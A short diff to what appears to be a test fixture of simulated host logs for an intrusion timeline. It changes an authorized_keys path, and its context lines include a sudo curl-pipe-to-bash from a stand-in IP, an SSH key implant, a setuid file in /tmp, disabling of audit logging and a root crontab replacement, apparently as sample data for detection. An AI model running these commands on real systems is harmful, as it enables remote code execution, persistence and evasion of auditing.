@@ -76,7 +76,7 @@ HOST = [
     ),
     (BROKEN + 195, "usermod[53]: add 'helper' to group 'sudo'"),
     (BROKEN + 240, sudo("deploy", "/bin/bash -c curl -s http://198.51.100.7/x.sh | bash")),
-    (BROKEN + 260, sudo("deploy", "/usr/bin/tee -a /root/.ssh/authorized_keys")),
+    (BROKEN + 260, sudo("deploy", "/usr/bin/tee -a /home/eve/.ssh/authorized_keys")),
     (BROKEN + 280, sudo("deploy", "/usr/bin/chmod u+s /tmp/.x")),
     (BROKEN + 311, "systemd[1]: Stopped Security Auditing Service."),
     (BROKEN + 330, "crontab[54]: (root) REPLACE (root)"),
